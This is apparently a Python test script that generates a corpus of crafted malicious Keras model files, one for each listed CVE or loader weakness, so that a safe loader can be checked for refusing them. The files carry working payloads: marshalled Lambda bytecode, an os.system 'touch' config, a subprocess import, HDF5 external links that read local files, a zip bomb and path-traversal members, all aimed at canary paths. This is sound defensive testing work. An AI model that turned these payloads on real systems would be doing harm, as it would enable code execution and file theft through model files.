"""Generate crafted Keras files, one or more per known hole in Keras's loaders.

    python tests/keras_malicious_corpus.py OUT_DIR

Every file targets a model of one ``Dense(2)`` layer on 3 inputs (``target_model``),
so a loader that accepted it would change that model's weights. Any code the
files try to run, or any file they try to read, would touch ``canary`` paths in
OUT_DIR (``canary.txt`` to be created, ``secret.txt`` / ``secret.h5`` to be read).

Each entry of :func:`build_corpus` is ``(file name, hole, words the refusal must name)``.
Only Python's standard library, NumPy and h5py are used; nothing here imports Keras.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import sys
import zipfile

import numpy as np

DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"name": "dense", "units": 2, "activation": "linear", "use_bias": True},
    "registered_name": None,
    "build_config": {"input_shape": [None, 3]},
}
INPUT = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "input_layer"},
    "registered_name": None,
}


def _sequential(*layers):
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": [INPUT, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 3]},
    }


def _weights_h5(build=None, key="dense"):
    """A model.weights.h5 for the one-Dense target, optionally altered by ``build(file)``."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        group = file.create_group(f"layers/{key}/vars")
        group.attrs["name"] = "dense"
        group.create_dataset("0", data=np.full((3, 2), 7.0, np.float32))
        group.create_dataset("1", data=np.full((2,), 7.0, np.float32))
        file.create_group("vars")
        if build is not None:
            build(file)
    return buffer.getvalue()


def _keras(path, config, weights=None, extra=(), members=None):
    metadata = json.dumps({"keras_version": "3.15.1"}).encode()
    entries = members or [
        ("metadata.json", metadata),
        ("config.json", json.dumps(config).encode()),
        ("model.weights.h5", weights if weights is not None else _weights_h5()),
        *extra,
    ]
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data)


def _legacy_h5(path, config):
    import h5py

    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "3.15.1"
        file.attrs["backend"] = "tensorflow"
        weights = file.create_group("model_weights")
        group = weights.create_group("dense")
        group.attrs["weight_names"] = [b"dense/kernel", b"dense/bias"]
        group.create_dataset("dense/kernel", data=np.full((3, 2), 7.0, np.float32))
        group.create_dataset("dense/bias", data=np.full((2,), 7.0, np.float32))


def _lambda_layer(canary):
    source = f"lambda x: (open({canary!r}, 'w').write('pwned'), x)[1]"
    code = compile(source, "<crafted>", "eval").co_consts[0]
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": base64.b64encode(marshal.dumps(code)).decode(), "defaults": None, "closure": None},
            },
            "arguments": {},
        },
        "registered_name": None,
    }


def _write(path, data):
    with open(path, "wb") as file:
        file.write(data)


def build_corpus(out_dir):
    """Write every crafted file into ``out_dir``; returns ``[(name, hole, [words])]``."""
    import h5py

    os.makedirs(out_dir, exist_ok=True)
    canary = os.path.join(out_dir, "canary.txt")
    secret = os.path.join(out_dir, "secret.txt")
    secret_h5 = os.path.join(out_dir, "secret.h5")
    _write(secret, b"\x00" * 24)
    with h5py.File(secret_h5, "w") as file:
        file.create_dataset("data", data=np.full((3, 2), 9.0, np.float32))
    corpus = []

    def add(name, hole, words):
        corpus.append((name, hole, words))

    # CVE-2024-3660: Lambda bytecode runs on load.
    _keras(os.path.join(out_dir, "lambda.keras"), _sequential(DENSE, _lambda_layer(canary)))
    add("lambda.keras", "CVE-2024-3660", ["Lambda"])
    # CVE-2025-9905: the same through a legacy .h5, which skipped safe_mode.
    _legacy_h5(os.path.join(out_dir, "lambda_legacy.h5"), _sequential(DENSE, _lambda_layer(canary)))
    add("lambda_legacy.h5", "CVE-2025-9905", ["Lambda"])
    # CVE-2025-1550: a config's module imports an arbitrary function.
    system = {"module": "os", "class_name": "system", "config": {"command": f"touch {canary}"}, "registered_name": None}
    _keras(os.path.join(out_dir, "module_import.keras"), _sequential(DENSE, system))
    add("module_import.keras", "CVE-2025-1550", ["'system'", "'os'"])
    activation = dict(
        DENSE,
        config=dict(
            DENSE["config"],
            activation={
                "module": "subprocess",
                "class_name": "function",
                "config": "getoutput",
                "registered_name": "function",
            },
        ),
    )
    _keras(os.path.join(out_dir, "function_import.keras"), _sequential(activation))
    add("function_import.keras", "CVE-2025-1550", ["subprocess"])
    # CVE-2025-8747: Keras's own get_file fetches/writes a file.
    get_file = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"fname": canary, "origin": "http://127.0.0.1:9/x", "cache_dir": out_dir},
        "registered_name": None,
    }
    _keras(os.path.join(out_dir, "get_file.keras"), _sequential(DENSE, get_file))
    add("get_file.keras", "CVE-2025-8747", ["get_file"])
    # CVE-2025-9906: enable_unsafe_deserialization, then a Lambda.
    unsafe = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    _keras(os.path.join(out_dir, "unsafe_then_lambda.keras"), _sequential(unsafe, DENSE, _lambda_layer(canary)))
    add("unsafe_then_lambda.keras", "CVE-2025-9906", ["enable_unsafe_deserialization"])
    # CVE-2025-12058: a StringLookup vocabulary path reads a local file.
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": secret},
        "registered_name": None,
    }
    _keras(os.path.join(out_dir, "vocabulary_path.keras"), _sequential(lookup, DENSE))
    add("vocabulary_path.keras", "CVE-2025-12058", ["vocabulary", "StringLookup"])

    # CVE-2026-0897: a huge declared HDF5 shape.
    def huge(file):
        del file["layers/dense/vars/0"]
        file["layers/dense/vars"].create_dataset("0", shape=(1 << 20, 1 << 20), dtype="f4", chunks=(1, 1))

    _keras(os.path.join(out_dir, "huge_shape.keras"), _sequential(DENSE), _weights_h5(huge))
    _write(os.path.join(out_dir, "huge_shape.weights.h5"), _weights_h5(huge))
    add("huge_shape.keras", "CVE-2026-0897", ["declared shape"])
    add("huge_shape.weights.h5", "CVE-2026-0897", ["declared shape"])

    # CVE-2026-1669: an HDF5 external dataset reads a local file.
    def external(file):
        del file["layers/dense/vars/0"]
        file["layers/dense/vars"].create_dataset("0", shape=(3, 2), dtype="f4", external=[(secret, 0, 24)])

    _write(os.path.join(out_dir, "external_storage.weights.h5"), _weights_h5(external))
    _keras(os.path.join(out_dir, "external_storage.keras"), _sequential(DENSE), _weights_h5(external))
    add("external_storage.weights.h5", "CVE-2026-1669", ["external storage"])
    add("external_storage.keras", "CVE-2026-1669", ["external storage"])
    # CVE-2026-1462: TFSMLayer loads a SavedModel.
    tfsm = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "tfsm", "filepath": out_dir, "call_endpoint": "serve"},
        "registered_name": None,
    }
    _keras(os.path.join(out_dir, "tfsm.keras"), _sequential(tfsm))
    add("tfsm.keras", "CVE-2026-1462", ["TFSMLayer"])

    # GHSA-27f4-p4xq-cxg8: load_weights follows links.
    def soft(file):
        file["stash/kernel"] = np.full((3, 2), 9.0, np.float32)
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = h5py.SoftLink("/stash/kernel")

    def external_link(file):
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = h5py.ExternalLink(secret_h5, "/data")

    _write(os.path.join(out_dir, "soft_link.weights.h5"), _weights_h5(soft))
    _write(os.path.join(out_dir, "external_link.weights.h5"), _weights_h5(external_link))
    add("soft_link.weights.h5", "GHSA-27f4-p4xq-cxg8", ["soft link"])
    add("external_link.weights.h5", "GHSA-27f4-p4xq-cxg8", ["external link"])

    # HDF5 features weights never need.
    def virtual(file):
        layout = h5py.VirtualLayout(shape=(3, 2), dtype="f4")
        layout[:] = h5py.VirtualSource(secret_h5, "data", shape=(3, 2))
        del file["layers/dense/vars/0"]
        file["layers/dense/vars"].create_virtual_dataset("0", layout)

    def vlen(file):
        del file["layers/dense/vars/1"]
        file["layers/dense/vars"].create_dataset("1", shape=(2,), dtype=h5py.vlen_dtype(np.float32))

    def compound(file):
        del file["layers/dense/vars/1"]
        file["layers/dense/vars"].create_dataset("1", data=np.zeros(2, dtype=[("a", "f4"), ("b", "f4")]))

    def reference(file):
        del file["layers/dense/vars/1"]
        references = np.array([file["vars"].ref, file["vars"].ref], dtype=h5py.ref_dtype)
        file["layers/dense/vars"].create_dataset("1", data=references)

    for name, build, words in (
        ("virtual", virtual, ["virtual dataset"]),
        ("vlen", vlen, ["variable-length"]),
        ("compound", compound, ["compound"]),
        ("object_reference", reference, ["object-reference"]),
    ):
        _write(os.path.join(out_dir, f"{name}.weights.h5"), _weights_h5(build))
        add(f"{name}.weights.h5", "HDF5 " + name.replace("_", " "), words)
    # Custom classes come only through custom_objects=.
    custom = dict(DENSE, class_name="MyDense", module="my_package.layers", registered_name="my_package>MyDense")
    _keras(os.path.join(out_dir, "custom_class.keras"), _sequential(custom), _weights_h5(key="my_dense"))
    add("custom_class.keras", "custom class", ["my_package>MyDense"])
    # Zip bomb: 400 MB of zeros in a few hundred KB.
    bomb = os.path.join(out_dir, "zip_bomb.keras")
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", b"{}")
        archive.writestr("config.json", json.dumps(_sequential(DENSE)))
        with archive.open("model.weights.h5", "w", force_zip64=True) as member:
            block = b"\x00" * (1 << 22)
            for _ in range(100):
                member.write(block)
    add("zip_bomb.keras", "zip bomb", ["zip bomb"])
    # Path traversal member names.
    for name, member in (("traversal.keras", "../canary.txt"), ("absolute.keras", "/tmp/canary.txt")):
        weights = _weights_h5()
        _keras(
            os.path.join(out_dir, name),
            None,
            members=[
                ("metadata.json", b"{}"),
                ("config.json", json.dumps(_sequential(DENSE)).encode()),
                ("model.weights.h5", weights),
                (member, b"pwned"),
            ],
        )
        add(name, "path traversal", ["path traversal"])
    # Duplicate members: a checker and a loader could read different copies.
    _keras(
        os.path.join(out_dir, "duplicate.keras"),
        None,
        members=[
            ("metadata.json", b"{}"),
            ("config.json", json.dumps(_sequential(DENSE)).encode()),
            ("config.json", json.dumps(_sequential(DENSE, _lambda_layer(canary))).encode()),
            ("model.weights.h5", _weights_h5()),
        ],
    )
    add("duplicate.keras", "duplicate members", ["appears twice"])
    # Truncated files.
    whole = os.path.join(out_dir, "whole.keras.tmp")
    _keras(whole, _sequential(DENSE))
    with open(whole, "rb") as file:
        data = file.read()
    os.unlink(whole)
    _write(os.path.join(out_dir, "truncated.keras"), data[: len(data) // 2])
    add("truncated.keras", "truncated", ["truncated"])
    weights = _weights_h5()
    _write(os.path.join(out_dir, "truncated.weights.h5"), weights[: len(weights) // 2])
    add("truncated.weights.h5", "truncated", ["HDF5"])
    # A path inside an otherwise allowed config.
    named = dict(DENSE, config=dict(DENSE["config"], name="file:///etc/passwd"))
    _keras(os.path.join(out_dir, "url_in_config.keras"), _sequential(named))
    add("url_in_config.keras", "path in config", ["file path or URL"])
    return corpus


if __name__ == "__main__":
    for name, hole, _ in build_corpus(sys.argv[1] if len(sys.argv) > 1 else "malicious_corpus"):
        print(f"{hole:22s} {name}")
